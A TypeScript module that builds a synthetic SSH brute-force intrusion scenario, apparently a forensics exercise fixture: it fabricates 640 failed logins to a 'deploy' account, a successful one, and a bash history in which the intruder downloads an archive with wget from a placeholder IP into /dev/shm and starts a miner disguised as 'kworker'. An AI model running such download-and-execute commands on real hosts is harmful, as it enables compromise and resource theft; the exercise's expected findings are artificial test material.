/** A password that was guessed: hundreds of failures from one address, then a login, then what was typed. */
import { minute, syslogTime } from './clock.ts';
import { authNoise, type Line, written } from './noise.ts';
import { attacker, minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';

const host = 'build01';
const say = (ms: number, pid: number, text: string): Line => ({
  ms,
  text: `${syslogTime(ms)} ${host} sshd[${pid}]: ${text}`,
});

const guesses = Array.from({ length: 640 }, (_, i): Line => {
  const ms = night - 640 * 4_000 + i * 4_000;
  return say(ms, 30_000 + i, `Failed password for deploy from ${attacker} port ${20_000 + i} ssh2`);
});
const login = [
  say(night, 31_000, `Accepted password for deploy from ${attacker} port 48122 ssh2`),
  say(night, 31_000, 'pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)'),
  say(night + 9 * minute, 31_000, 'pam_unix(sshd:session): session closed for user deploy'),
];

const typed = [
  [20_000, 'uname -a; nproc'],
  [48_000, 'cd /dev/shm && wget -q http://203.0.113.9/k.tar.gz && tar xf k.tar.gz'],
  [71_000, `cd .k && ./kworker ${minerArguments.join(' ')} -B`],
] as const;
const history = typed.map(([after, command]) => `#${Math.floor((night + after) / 1000)}\n${command}\n`).join('');

export const ssh: Story = {
  name: 'SSH',
  files: {
    'var/log/auth.log': written(authNoise(weekBegins, weekEnds, host, 5), guesses, login),
    'home/deploy/.bash_history': history,
  },
  reading: 'login',
  begins: night,
  tells: [/after 640 fail/, /deploy/, /k\.tar\.gz/],
  requests: ['var/log/auth.log'],
  deeds: ['home/deploy/.bash_history'],
};
